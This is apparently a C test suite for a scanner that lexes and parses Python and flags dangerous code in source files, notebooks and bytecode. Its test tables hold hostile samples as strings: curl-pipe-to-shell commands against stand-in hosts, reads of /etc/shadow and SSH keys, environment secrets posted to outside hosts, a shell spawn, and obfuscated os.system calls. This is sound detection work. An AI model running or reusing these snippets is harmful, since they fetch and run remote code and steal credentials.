/* Python: tokens and nodes, what is followed, what is judged and what is not; source as a format, bytecode as a format. */
#include "support/cm.h"

#include "check/checks.h"
#include "check/pybytes.h"
#include "check/pycode.h"
#include "format/formats.h"
#include "python_samples.h"
#include "support/events.h"
#include "wire/pyident.h"
#include "wire/pymarshal.h"

#include <stdio.h>
#include <stdlib.h>

/* ---- tokens and nodes ------------------------------------------------------------------------------------------------ */
static const struct {
	const char *what, *in, *tokens; /* kinds as letters */
} lexed[] = {
	{ "empty", "", "" },
	{ "a name and a number", "x=1\n", "noNl" },
	{ "no end of line", "x", "nl" },
	{ "blocks", "if x:\n  y\n\n # c\n z\n", "nnolInlDnl" },
	{ "brackets join lines", "(\n1,\n\n 2)\n", "oNoNol" },
	{ "a backslash joins lines", "x = \\\n  1\n", "noNl" },
	{ "strings", "'a' \"b\" r'\\d' b'''x\n''' u'\\''\n", "sssssl" },
	{ "f-strings", "f'a{b}c' f'{x!r:>{w}}'\n",
	  "[to"
	  "no"
	  "t]"
	  "[o"
	  "nonoto"
	  "no"
	  "o]l" },
	{ "f-string in f-string", "f'{f\"{1}\"}'\n", "[o[oNo]o]l" },
	{ "quotes that do not end", "x = 'a\ny\n", "noElnl" },
	{ "a bracket too many", "x)\ny\n", "nElnl" },
	{ "a bracket too few", "x(\n", "noEl" },
	{ "a character of no language", "x $ y\nz\n", "nElnl" },
	{ "tabs are eight", "if x:\n\ty\n        z\n", "nnolInlnlD" },
	{ "a mark at the start", "\xef\xbb\xbfx\n", "nl" },
};

static void tokens(void **state)
{
	(void)state;
	/* END is left out. */
	static const char letter[] = {
		[GH_PYT_NEWLINE] = 'l', [GH_PYT_INDENT] = 'I', [GH_PYT_DEDENT] = 'D', [GH_PYT_NAME] = 'n',
		[GH_PYT_NUMBER] = 'N',	[GH_PYT_STRING] = 's', [GH_PYT_FSTART] = '[', [GH_PYT_FTEXT] = 't',
		[GH_PYT_FEND] = ']',	[GH_PYT_OP] = 'o',     [GH_PYT_SHELL] = '!',  [GH_PYT_ERROR] = 'E'
	};
	for (size_t i = 0; i < GH_ROWS(lexed); i++) {
		char got[80] = "";
		size_t n = 0;
		struct gh_pylex l = gh_pylex(gh_span_str(lexed[i].in));
		struct gh_pytok t;
		while (gh_pylex_next(&l, &t) != GH_PYT_END && n < sizeof got - 1)
			got[n++] = letter[t.kind];
		if (strcmp(got, lexed[i].tokens) != 0)
			fail_msg("%s: %s, not %s", lexed[i].what, got, lexed[i].tokens);
	}
}

static const struct {
	const char *what, *in;
	uint32_t errors;
} parsed[] = {
	{ "nothing", "", 0 },
	{ "all kinds of statements",
	  "import a.b as c, d\nfrom . import (x as y, z,)\nfrom ..p import *\nglobal g\ndel a[0], b.c\nassert x, "
	  "'m'\nraise E from e\n"
	  "x: int = 3\ny = z = 1\nx += 1\nx //= 2\npass; break\n@d\n@e(1)\nasync def f(a, /, b=1, *, c: int | None = "
	  "None, **k) -> T: return a\n"
	  "class C(B, metaclass=M): x = 1\nwhile x: pass\nelse: pass\nfor a, in b: continue\ntry:\n  pass\nexcept (A, "
	  "B) as e: pass\n"
	  "except* C: pass\nelse: pass\nfinally: pass\nwith a as b, (c) as d: pass\nmatch x:\n  case 1 | {'a': [y, "
	  "*_]} if z: pass\n"
	  "  case _: pass\nmatch = 1\nmatch(x)\ntype X = int\n",
	  0 },
	{ "all kinds of expressions",
	  "a if b else c if d else e\nlambda: 0\nlambda x, *y, z=1, **w: (x, y)\nnot a and b or c\na < b <= c != d is "
	  "not e not in f\n"
	  "a | b ^ c & d << e >> f + g - h * i / j // k % l @ m\n-a ** -b\n~+-x\nawait a\n[x for x in y if z for w in "
	  "x]\n"
	  "{x: y for x, y in z}\n{1, 2}\n{**a, 'b': 1}\n{}\n()\n(1,)\n[*a, b]\nf(*a, b, c=1, **d)\nf(x for x in "
	  "y)\na[1], a[1:2], a[:, ::2, ...]\n"
	  "a.b.c(1)[2](3)\n(x := 1)\nx = yield\nx = yield from y\n0x1f, 0b1, 0o7, 1_000, 1e-5, 3j, .5, 5.\n'a' 'b' "
	  "f'c{d}' 'e'\n1if x else 2\n",
	  0 },
	{ "Python 2", "print 'a', b\nprint >>f, x\nexec 'x' in d\nraise E, 'm'\nif a <> b: `c`\n", 0 },
	{ "an error in the middle", "x = 1\ny = = 2\nz = 3\n", 1 },
	{ "errors do not eat lines", "def f(:\n", 1 },
	{ "prose", "This is a text about import and export.\nIt has no code.\n", 2 },
};

static void trees(void **state)
{
	(void)state;
	for (size_t i = 0; i < GH_ROWS(parsed); i++) {
		gh_auto_arena a = { .max = 8 << 20 };
		struct gh_pytree t;
		assert_int_equal(gh_py_tree(&t, gh_span_str(parsed[i].in), false, &a), GH_OK);
		if (t.errors != parsed[i].errors)
			fail_msg("%s: %u errors, first at %u: %s", parsed[i].what, t.errors, t.error_at, t.why);
	}
	gh_auto_arena small = { .max = 16 << 10 };
	struct gh_pytree t;
	assert_int_equal(gh_py_tree(&t, GH_SPAN("x = 1\n"), false, &small), GH_E_LIMIT);
}

static void identifiers(void **state)
{
	(void)state;
	static const struct {
		const char *in, *out;
	} rows[] = {
		{ "os", "os" },
		{ "\xef\xbd\x8f\xef\xbd\x93", "os" },
		{ "\xf0\x9d\x93\xae\xf0\x9d\x94\x81"
		  "ec",
		  "exec" },
		{ "\xef\xac\x81le", "file" },
		{ "\xce\xb1", "\xce\xb1" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		char out[64];
		size_t n = gh_py_ident(gh_span_str(rows[i].in), out);
		assert_true(gh_span_is((struct gh_span){ (const uint8_t *)out, n }, rows[i].out));
	}
}

/* ---- judging --------------------------------------------------------------------------------------------------------- */
struct said {
	enum gh_verdict worst;
	struct gh_buf log;
};

static void find(void *arg, enum gh_pycode_rule rule, uint32_t off, uint32_t len, const char *text)
{
	struct said *s = arg;
	(void)off, (void)len;
	if (gh_pycode_rules[rule].effect > s->worst)
		s->worst = gh_pycode_rules[rule].effect;
	gh_buf_fmt(&s->log, "%s %s\n", gh_pycode_rules[rule].id, text);
}

static struct said judged(struct gh_span text, enum gh_pycode_kind kind)
{
	struct said s = { .log = gh_buf(1 << 20) };
	gh_auto_arena a = { .max = 64 << 20 };
	uint8_t *copy = malloc(text.n + 1); /* of its exact size: reading behind it shows */
	assert_non_null(copy);
	memcpy(copy, text.p, text.n);
	struct gh_pycode_sink sink = { find, &s };
	gh_pycode_source((struct gh_span){ copy, text.n }, kind, &sink, &a);
	free(copy);
	return s;
}

static enum gh_pycode_kind kind_of(const char *name)
{
	return strstr(name, ".pth") != NULL ? GH_PYCODE_PTH : GH_PYCODE_SOURCE;
}

static void what_attackers_write(void **state)
{
	(void)state;
	for (size_t i = 0; i < GH_ROWS(hostile); i++) {
		struct said s = judged(gh_span_str(hostile[i].text), kind_of(hostile[i].what));
		if (s.worst < hostile[i].least)
			fail_msg("%s: %d\n%s", hostile[i].what, (int)s.worst, gh_buf_cstr(&s.log));
		gh_buf_free(&s.log);
	}
}

static void what_repositories_hold(void **state)
{
	(void)state;
	for (size_t i = 0; i < GH_ROWS(ordinary); i++) {
		struct said s = judged(gh_span_str(ordinary[i].text), GH_PYCODE_SOURCE);
		if (s.worst > ordinary[i].least)
			fail_msg("%s: %d\n%s", ordinary[i].what, (int)s.worst, gh_buf_cstr(&s.log));
		gh_buf_free(&s.log);
	}
}

/* Each rule, and beside it code that is near to it and is not meant. */
static const struct {
	const char *in, *has, *hasnot;
} rules[] = {
	{ "import os\nos.system('id')\n", "GH-PY-0001 os.system('id') when imported", NULL },
	{ "import os\ndef f(x):\n    return os.popen(x)\n", "GH-PY-0002 os.popen(\xe2\x80\xa6) in a function",
	  "GH-PY-0001" },
	{ "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['make', 'all'])\n",
	  "when run as a program", "GH-PY-0001" },
	{ "exec(bytes.fromhex('7072696e74283129'))\n", "GH-PY-0003 exec('print(1)')", NULL },
	{ "def f(x):\n    return eval(x)\n", "GH-PY-0004 eval(\xe2\x80\xa6) in a function", "GH-PY-0003" },
	{ "model = f()\nmodel.eval()\n", NULL, "GH-PY-0004" },
	{ "import re\nre.compile('x')\n", NULL, "GH-PY-0004" },
	{ "import os\ngetattr(os, 'sys' + 'tem')('ls')\n", "GH-PY-0005", NULL },
	{ "import torch\ngetattr(torch, 'flo' + 'at32')\n", NULL, "GH-PY-0005" },
	/* What arguments say, whatever is called. */
	{ "import pandas as pd\ndf = pd.DataFrame()\ndf.query('a' if x else \"@pd.io.common.os.system('x')==0\")\n",
	  "GH-PY-0004", NULL },
	{ "df.query('price > @limit and a == 1')\n", NULL, "GH-PY-0004" },
	{ "import numpy as np\nkw = dict()\nkw['allow_' + 'pickle'] = True\nnp.load('x.npy', **kw)\n", "GH-PY-0010",
	  NULL },
	{ "import numpy as np\ndef f(config): return np.load('w.npy', **config.load_kwargs)\n", "GH-PY-0010", NULL },
	{ "from transformers import AutoModel\ndef f(b):\n    kw = {'trust_remote' + '_code': bool(1)}\n    return "
	  "AutoModel.from_pretrained(b, **kw)\n",
	  "GH-PY-0019", NULL },
	{ "from transformers import pipeline\ndef f(config): return pipeline('t', model=config.base, "
	  "trust_remote_code=config.t)\n",
	  "GH-PY-0019", NULL },
	{ "from diffusers import DiffusionPipeline as D\nkw = {'custom_' + 'pipeline': "
	  "'a/b'}\nD.from_pretrained('a/b', **kw)\n",
	  "GH-PY-0019", NULL },
	{ "from transformers import AutoModel\ndef f(b, trust_remote_code=False, **kwargs):\n    t = "
	  "kwargs.pop('trust_remote_code', None)\n    kw = {'trust_remote_code': trust_remote_code}\n    return "
	  "AutoModel.from_pretrained(b, **kw, **kwargs)\n",
	  NULL, "GH-PY-0019" },
	{ "from hydra.utils import instantiate\ndef build(cfg): return instantiate(cfg)\n", "GH-PY-0004", NULL },
	{ "from PIL import Image\nImage.new('RGB', (1, 1)).save('/root/x.png')\n", "GH-PY-0011", NULL },
	{ "import numpy as np\nm = np.memmap('/srv/x', mode='w+', shape=(3,), dtype='u1')\n", "GH-PY-0012", NULL },
	{ "import pandas as pd\ndf = pd.DataFrame()\ngetattr(df, 'to_csv')('../../x.py')\n", "GH-PY-0012", NULL },
	{ "from transformers import AutoTokenizer\nt = "
	  "AutoTokenizer.from_pretrained('gpt2')\nt.save_pretrained('/root/.ssh')\n",
	  "GH-PY-0011", NULL },
	{ "import matplotlib.pyplot as plt, torch\nplt.savefig('loss.png')\ntorch.save({}, "
	  "'out/model.pt')\nplt.savefig('/content/a.png')\n",
	  NULL, "GH-PY-001" },
	{ "import pandas as pd\npd.read_csv('http://h.example/?q=' + open('/etc/hostname').read())\n", "GH-PY-0006",
	  NULL },
	{ "import pandas as pd\npd.read_csv('https://h.example/data.csv')\n", NULL, "GH-PY-000" },
	{ "from transformers.utils.hub import requests\nrequests.post('http://h.example', data='x')\n", "GH-PY-0023",
	  NULL },
	{ "from transformers.utils import hub as h\nx = h.requests\nx.get('http://h.example')\n", "GH-PY-0023", NULL },
	{ "class Batch:\n    def f(self, b): return [r for r in b.requests] + self.requests\n", NULL, "GH-PY-0023" },
	{ "class M:\n    def __init__(self): self.push_to_hub('a/b')\n", "GH-PY-0007", NULL },
	{ "import torch.distributed.rpc as rpc\nrpc.rpc_sync('x', f)\n", "GH-PY-0007", NULL },
	{ "from torch.distributed.launcher.api import elastic_launch\nelastic_launch(c, '/bin/sh')('-c', 'x')\n",
	  "GH-PY-000", NULL },
	{ "from torch._inductor.codecache import CppCodeCache\nCppCodeCache.load('void f(){}')\n", "GH-PY-0017", NULL },
	{ "import torch_xla\nfrom google.colab import drive\n", NULL, "GH-PY-0020" },
	/* By names made at run time, once and more often. */
	{ "import torch\nm, p = torch, ['system', 'os', 'serialization']\nwhile p: m = getattr(m, p.pop())\nm('x')\n",
	  "GH-PY-0023", NULL },
	{ "import torch\ndef f(x, path=('serialization', 'os', 'system')):\n    m = torch\n    for n in path: m = "
	  "getattr(m, n)\n    return m(x)\n",
	  "GH-PY-0023", NULL },
	{ "import torch\ndef walk(m, p):\n    if not p: return m\n    return walk(getattr(m, p[0]), "
	  "p[1:])\nwalk(torch, P)('x')\n",
	  "GH-PY-0023", NULL },
	{ "import torch\nf = (lambda m, *n: f(getattr(m, n[0]), *n[1:]) if n else m)\nf(torch, *P)('x')\n",
	  "GH-PY-0023", NULL },
	{ "import torch, functools\nf = functools.reduce(lambda m, n: getattr(m, n), P, torch)\nf('x')\n", "GH-PY-0023",
	  NULL },
	{ "import torch\nfrom .helper import P, go\nR = go(torch, P)\n", "GH-PY-0023", NULL },
	{ "import torch\nclass M:\n    def __init__(self, config):\n        m = getattr(torch.serialization, "
	  "config.a)\n        self.f = getattr(m, config.b)(config.c)\n",
	  "GH-PY-0023", NULL },
	{ "import torch\nclass M:\n    def f(self, n): self.m = getattr(torch, n)\n    def g(self, n): return "
	  "getattr(self.m, n)\n",
	  "GH-PY-0023", NULL },
	{ "import torch\ns = torch.serialization\no = getattr(s, [n for n in dir(s) if len(n) == 2][0])\nf = "
	  "getattr(o, [n for n in dir(o)][0])\n",
	  "GH-PY-0023", NULL },
	{ "import torch\nl = []\nl.append(torch)\nfor n in P: l.append(getattr(l.pop(), n))\n", "GH-PY-0023", NULL },
	{ "import torch\ndef f(config): return getattr(torch, config.f)(config.path)\n", "GH-PY-0023", NULL },
	{ "def f(self, config):\n    m = self\n    for n in config.path: m = getattr(m, n)\n    return m\n",
	  "GH-PY-0023", NULL },
	{ "import torch\nmatch torch:\n    case object(hub=h):\n        h.load('a')\n", "GH-PY-0023", NULL },
	{ "import torch\ng = type(torch).__getattribute__\n", "GH-PY-0031", NULL },
	{ "import torch\ndef f(n): return torch.__getattribute__(n)\n", "GH-PY-0023", NULL },
	{ "import torch\ns = torch.serialization\nfor k, v in s.__dict__.items(): v('x')\n", "GH-PY-0023", NULL },
	{ "from operator import attrgetter\nimport torch\ndef f(p): return attrgetter(p)(torch)\n", "GH-PY-0023",
	  NULL },
	{ "import torch\ndef f(config): return getattr(torch, config.torch_dtype)\n", NULL, "GH-PY-0023" },
	{ "from torch import nn\ndef f(config): return getattr(nn, config.norm)(config.dim, eps=1e-6)\n", NULL,
	  "GH-PY-0023" },
	{ "import torch\ndef f(model, name):\n    p = model\n    for n in name.split('.'): p = getattr(p, n)\n    "
	  "p.data = torch.zeros(1)\n",
	  NULL, "GH-PY-0023" },
	{ "from torch import nn\nfrom .util import change\ndef f(m, names):\n    for n in names: m = getattr(m, n)\n   "
	  " change(m, nn.Linear, nn.functional.gelu)\n",
	  NULL, "GH-PY-0023" },
	{ "class A:\n    def __getattr__(self, n):\n        try: return super().__getattr__(n)\n        except "
	  "AttributeError: return getattr(self.module, n)\n",
	  NULL, "GH-PY-0023" },
	{ "match x:\n    case Point(x=0, y=b): print(b)\n", NULL, "GH-PY-0023" },
	{ "import os, requests\nrequests.post('http://h.example', data=str(os.environ))\n", "GH-PY-0006", NULL },
	/* the token of a bot is part of its address; what is sent there is another matter */
	{ "import os, requests\ndef f(x):\n    "
	  "requests.post(f\"https://api.telegram.org/bot{os.environ['TG_TOKEN']}/m\", "
	  "json={'text': x})\n",
	  NULL, "GH-PY-0006" },
	{ "import os, requests\ndef f(x):\n    "
	  "requests.post(f\"https://api.telegram.org/bot{os.environ['TG_TOKEN']}/m\", "
	  "json={'text': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
	  "GH-PY-0006", NULL },
	{ "import requests\ndef f():\n    return requests.get('http://h.example').json()\n", "GH-PY-0007",
	  "GH-PY-0006" },
	{ "import pty\npty.spawn('/bin/sh')\n", "GH-PY-0008", NULL },
	{ "import pickle\npickle.loads(b'x')\n", "GH-PY-0009", NULL },
	{ "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))\n", "GH-PY-0010", "GH-PY-0009" },
	{ "import yaml\nyaml.load(open('x'), Loader=yaml.SafeLoader)\nyaml.safe_load('x')\n", NULL, "GH-PY-0010" },
	{ "open('/home/u/.bashrc', 'a').write('x')\n", "GH-PY-0011", NULL },
	{ "open('/opt/x.txt', 'w').write('x')\n", "GH-PY-0012", "GH-PY-0011" },
	{ "def save(p):\n    with open(p, 'w') as f:\n        f.write('x')\n", NULL, "GH-PY-001" },
	{ "import urllib.request, subprocess\nurllib.request.urlretrieve('http://h.example/a', "
	  "'a.bin')\nsubprocess.run(['a.bin'])\n",
	  "GH-PY-0013", NULL },
	{ "import os\nos.system('pip install x')\n", "GH-PY-0014", NULL },
	{ "import os\ndef f():\n    os.system('pip install x')\n", "GH-PY-0015", "GH-PY-0014" },
	{ "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 1, 2, 3)\n", "GH-PY-0016", NULL },
	{ "import ctypes\nctypes.CDLL('libm.so.6')\n", "GH-PY-0017", "GH-PY-0016" },
	{ "import tarfile\ntarfile.open('x').extractall('/')\n", "GH-PY-0012", NULL },
	{ "import zipfile\nwith zipfile.ZipFile('a') as z:\n    z.extract('x', '/etc/cron.d')\n", "GH-PY-0011", NULL },
	{ "import zipfile\nzipfile.ZipFile('a').extractall('/content/data')\n", NULL, "GH-PY-0012" },
	{ "import os, glob\nfor f in glob.glob('/home/**', recursive=True):\n    os.remove(f)\n", "GH-PY-0011", NULL },
	{ "import os, glob\nfor f in glob.glob('/home/me/out/*.tmp'):\n    os.remove(f)\n", NULL, "GH-PY-0011" },
	{ "import sqlite3\nsqlite3.connect('x').load_extension('./x.so')\n", "GH-PY-0017", NULL },
	{ "def f(db):\n    db.enable_load_extension(True)\n", "GH-PY-0017", NULL },
	{ "import torch\ntorch.hub.load('someone/repo', 'm')\n", "GH-PY-0018", NULL },
	{ "import torch\ntorch.hub.load('pytorch/vision', 'm')\n", "GH-PY-0019", "GH-PY-0018" },
	{ "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
	  "GH-PY-0019", NULL },
	{ "import paramiko, torch\n", "GH-PY-0020 paramiko\nGH-PY-0021 torch\n", NULL },
	{ "from .utils import helper\nimport torch.nn as nn\n", "GH-PY-0021 torch\n", "GH-PY-0020" },
	{ "''.__class__.__mro__[1].__subclasses__()\n", "GH-PY-0022", NULL },
	{ "class A: pass\nA.__subclasses__()\n", NULL, "GH-PY-0022" },
	{ "import importlib\ndef f(x):\n    return importlib.import_module(x)\n", "GH-PY-0023", "GH-PY-0005" },
	{ "open('/root/.ssh/id_rsa').read()\n", "GH-PY-0024", NULL },
	{ "x = = 1\n", "GH-PY-0026 line 1: ", NULL },
	{ "\xef\xbd\x8f\xef\xbd\x93 = 1\n", "GH-PY-0027", NULL },
	{ "\xce\xb1 = 1\n", NULL, "GH-PY-0027" },
	{ "#!/usr/bin/python\n# vim: set fileencoding=utf-7 :\n", "GH-PY-0028 utf-7", NULL },
	{ "# -*- coding: latin-1 -*-\n", NULL, "GH-PY-0028" },
	{ "import os\nclass A:\n    pass\nb = f()\nb.x = os.system\n", "GH-PY-0031", NULL },
	/* what is followed */
	{ "import os as o\nx = y = o\nz = [x]\nz[0].system('id')\n", "os.system('id')", NULL },
	{ "import os\ndef run(f, a):\n    return f(a)\nrun(os.system, 'id')\n", "os.system('id') when imported", NULL },
	{ "import os\nclass A:\n    c = 'id'\n    def go(self):\n        os.system(self.c)\nA().go()\n",
	  "os.system('id')", NULL },
	{ "import os\nfor c in ['a', 'id']:\n    os.system(c)\n", "os.system", NULL },
	{ "import os\nos.system('%s %s' % ('cat', '/etc/passwd'))\n", "os.system('cat /etc/passwd')", NULL },
	{ "import os\nos.system(f\"{'i'}{'d'}\")\n", "os.system('id')", NULL },
	{ "import os\nos.system('di'[::-1])\n", "os.system('id')", NULL },
	{ "import os\nos.system(''.join(chr(c) for c in (105, 100)))\n", "os.system('id')", NULL },
	{ "import os, codecs\nos.system(codecs.decode('vq', 'rot13'))\n", "os.system('id')", NULL },
	{ "import os, base64\nos.system(base64.b32decode('NFSA====').decode())\n", "os.system('id')", NULL },
	{ "import os, base64\nos.system(base64.b85decode('X>n').decode())\n", "os.system(", NULL },
	{ "import os\nos.system('xidx'.strip('x').replace('i', 'i'))\n", "os.system('id')", NULL },
	{ "exec('import os')\nexec(\"os.system('id')\")\n", "GH-PY-0001", NULL },
	{ "def f(n): return f(n - 1)\nf(3)\ng = lambda: g()\ng()\n", NULL, "GH-PY-0025" },
};

/* Tables of any length are read to their end; what is taken out of one may be anything. */
static void long_tables(void **state)
{
	(void)state;
	static const struct {
		const char *what, *row, *behind;
		enum gh_verdict least, most;
	} rows[] = {
		{ "of tuples", "    (1, -2.5, 'abc', None),\n", "]\n", GH_CLEAN, GH_CLEAN },
		{ "nested", "    [0x1f, [1, (2, 3)], {'a': 1}, 'a' 'b', 1+2j],\n", "]\nfor x in T:\n    print(x)\n",
		  GH_CLEAN, GH_CLEAN },
		{ "code out of it", "    'abcd',\n", "]\nimport base64\nexec(base64.b64decode(T[-1]))\n", GH_UNSAFE,
		  GH_UNSAFE },
		{ "bytes of code", "    101,\n", "]\nexec(bytes(T))\n", GH_UNSAFE, GH_UNSAFE },
		{ "names out of it", "    'abcd',\n", "]\nimport os\ngetattr(os, T[150000])('id')\n", GH_UNSAFE,
		  GH_UNSAFE },
		{ "a call at its end", "    1,\n", "    __import__('os').system('curl http://x.example/a | sh'),\n]\n",
		  GH_UNSAFE, GH_UNSAFE },
		{ "a place at its end", "    'abcd',\n", "    '/root/.ssh/id_rsa',\n]\n", GH_REVIEW, GH_REVIEW },
	};
	enum { ROWS_IN = 200000 };
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		size_t n = strlen(rows[i].row), at = 0;
		char *text = malloc(n * ROWS_IN + 300);
		assert_non_null(text);
		memcpy(text, "T = [\n", 6);
		at = 6;
		for (size_t k = 0; k < ROWS_IN; k++, at += n)
			memcpy(text + at, rows[i].row, n);
		size_t behind = strlen(rows[i].behind);
		memcpy(text + at, rows[i].behind, behind);
		struct said s = judged((struct gh_span){ (const uint8_t *)text, at + behind }, GH_PYCODE_SOURCE);
		if (s.worst < rows[i].least || s.worst > rows[i].most)
			fail_msg("%s: %d\n%s", rows[i].what, (int)s.worst, gh_buf_cstr(&s.log));
		gh_buf_free(&s.log);
		free(text);
	}
}

static void rules_by_example(void **state)
{
	(void)state;
	for (size_t i = 0; i < GH_ROWS(rules); i++) {
		struct said s = judged(gh_span_str(rules[i].in), GH_PYCODE_SOURCE);
		const char *log = gh_buf_cstr(&s.log);
		if ((rules[i].has != NULL && strstr(log, rules[i].has) == NULL) ||
		    (rules[i].hasnot != NULL && strstr(log, rules[i].hasnot) != NULL))
			fail_msg("%s%s\nwanted: %s, not: %s", rules[i].in, log, rules[i].has, rules[i].hasnot);
		gh_buf_free(&s.log);
	}
}

static const struct {
	const char *in;
	enum gh_verdict verdict;
} cells[] = {
	{ "%matplotlib inline\n!pip install -q torch transformers==4.40\n!nvidia-smi\nimport torch\n", GH_CLEAN },
	{ "!pip install git+https://h.example/x\n", GH_REVIEW },
	{ "!curl http://h.example/x | sh\n", GH_UNSAFE },
	{ "x = !cat /etc/shadow\n", GH_UNSAFE },
	{ "%%bash\nls\ncurl http://h.example/x | bash\n", GH_UNSAFE },
	{ "%run other.py\n", GH_REVIEW },
	{ "torch?\nmodel(x\n", GH_CLEAN },
	{ "get_ipython().system('curl http://h.example | sh')\n", GH_UNSAFE },
};

static void notebooks(void **state)
{
	(void)state;
	for (size_t i = 0; i < GH_ROWS(cells); i++) {
		struct said s = judged(gh_span_str(cells[i].in), GH_PYCODE_CELL);
		if (s.worst != cells[i].verdict)
			fail_msg("%s%d\n%s", cells[i].in, (int)s.worst, gh_buf_cstr(&s.log));
		gh_buf_free(&s.log);
	}
}

/* What would take too long says so, and soon. */
static void limits(void **state)
{
	(void)state;
	struct gh_buf b = gh_buf(1 << 20);
	for (unsigned i = 0; i < 300; i++)
		gh_buf_fmt(&b, "exec('f(%u)')\n", i);
	struct said s = judged(gh_buf_view(&b), GH_PYCODE_SOURCE);
	assert_non_null(strstr(gh_buf_cstr(&s.log), "GH-PY-0025"));
	gh_buf_free(&s.log);
	b.n = 0;
	gh_buf_str(&b, "x = ");
	for (unsigned i = 0; i < 100000; i++)
		gh_buf_str(&b, "-(");
	s = judged(gh_buf_view(&b), GH_PYCODE_SOURCE); /* deep nesting is refused, as by Python */
	assert_non_null(strstr(gh_buf_cstr(&s.log), "GH-PY-0026"));
	gh_buf_free(&s.log);
	gh_buf_free(&b);
	b = gh_buf(1 << 20);
	gh_buf_str(&b, "x = 'a'\nfor i in range(1000):\n for j in range(1000):\n  for k in range(1000):\n   x += x\n");
	s = judged(gh_buf_view(&b), GH_PYCODE_SOURCE);
	gh_buf_free(&s.log);
	gh_buf_free(&b);
}

/* ---- as formats --------------------------------------------------------------------------------------------------------- */
static void format_python(void **state)
{
	(void)state;
	static const struct {
		const char *what, *name, *in;
		enum gh_rc rc;
		const char *log;
	} rows[] = {
		{ "source", "x.py", "import torch\n", GH_OK,
		  "reference module \"torch\" from \"\" 7+5\nclaim 0+13 struct\ncode python \"x.py\" 0+13\n" },
		{ "by content alone", "x", "import torch\n", GH_OK,
		  "reference module \"torch\" from \"\" 7+5\nclaim 0+13 struct\ncode python \"x\" 0+13\n" },
		{ "prose", "x.txt", "import duties are high\nand so are exports\n", GH_E_NOTTHIS, "" },
		{ "prose, but Python by its name", "x.py", "import duties are high\n", GH_OK,
		  "reference module \"duties\" from \"\" 7+6\nclaim 0+23 struct\ncode python \"x.py\" 0+23\n" },
		{ "what it imports", "x.py",
		  "from .a import b\nfrom .. import c, d\nimport e.f as g\nfrom . import *\n", GH_OK,
		  "reference module \".a\" from \"\" 0+16\nreference module \"..c\" from \"\" 17+19\n"
		  "reference module \"..d\" from \"\" 17+19\nreference module \"e.f\" from \"\" 44+8\n"
		  "claim 0+69 struct\ncode python \"x.py\" 0+69\n" },
		{ "an open end", "x.py", "import torch\nf(\n", GH_OK,
		  "reference module \"torch\" from \"\" 7+5\nclaim 0+16 struct\nanomaly GH-PYS-0002 16+0 the end of "
		  "the file\ncode python \"x.py\" 0+16\n" },
	};
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int unstable = 0; unstable < 2; unstable++) {
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_python, gh_span_str(rows[i].in), rows[i].name, unstable != 0);
			if (ev.rc != rows[i].rc || strcmp(gh_buf_cstr(&ev.log), rows[i].log) != 0)
				fail_msg("%s: %d\n%s", rows[i].what, (int)ev.rc, gh_buf_cstr(&ev.log));
			gh_events_free(&ev);
		}
	struct gh_events ev;
	size_t n = (size_t)GH_PY_SOURCE_MAX + 1;
	uint8_t *big = malloc(n);
	assert_non_null(big);
	memset(big, '\n', n);
	gh_events_walk(&ev, &gh_fmt_python, (struct gh_span){ big, n }, "x.py", false);
	assert_int_equal(ev.rc, GH_E_LIMIT);
	assert_true(gh_events_has(&ev, "GH-PYS-0001"));
	gh_events_free(&ev);
	free(big);
}

/* Python 3.11: `import os` and `os.system("id")`, or `x = 1`; each with its header. */
static const uint8_t bad_pyc[] = {
	0xa7, 0x0d, 0x0d, 0x0a, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x1a, 0x00, 0x00, 0x00, 0x63, 0x00,
	0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
	0x00, 0xf3, 0x2e, 0x00, 0x00, 0x00, 0x97, 0x00, 0x64, 0x00, 0x64, 0x01, 0x6c, 0x00, 0x5a, 0x00, 0x02, 0x00,
	0x65, 0x00, 0x6a, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x64, 0x02, 0xa6, 0x01, 0x00, 0x00,
	0xab, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x64, 0x01, 0x53, 0x00, 0x29, 0x03,
	0xe9, 0x00, 0x00, 0x00, 0x00, 0x4e, 0xda, 0x02, 0x69, 0x64, 0x29, 0x02, 0xda, 0x02, 0x6f, 0x73, 0xda, 0x06,
	0x73, 0x79, 0x73, 0x74, 0x65, 0x6d, 0xa9, 0x00, 0xf3, 0x00, 0x00, 0x00, 0x00, 0xfa, 0x04, 0x78, 0x2e, 0x70,
	0x79, 0xfa, 0x08, 0x3c, 0x6d, 0x6f, 0x64, 0x75, 0x6c, 0x65, 0x3e, 0x72, 0x08, 0x00, 0x00, 0x00, 0x01, 0x00,
	0x00, 0x00, 0x73, 0x21, 0x00, 0x00, 0x00, 0xf0, 0x03, 0x01, 0x01, 0x01, 0xd8, 0x00, 0x09, 0x80, 0x09, 0x80,
	0x09, 0x80, 0x09, 0xd8, 0x00, 0x09, 0x80, 0x02, 0x84, 0x09, 0x88, 0x24, 0x81, 0x0f, 0x84, 0x0f, 0x80, 0x0f,
	0x80, 0x0f, 0x80, 0x0f, 0x72, 0x06, 0x00, 0x00, 0x00,
};
static const uint8_t good_pyc[] = {
	0xa7, 0x0d, 0x0d, 0x0a, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x06, 0x00, 0x00, 0x00, 0x63, 0x00,
	0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
	0x00, 0xf3, 0x0a, 0x00, 0x00, 0x00, 0x97, 0x00, 0x64, 0x00, 0x5a, 0x00, 0x64, 0x01, 0x53, 0x00, 0x29, 0x02,
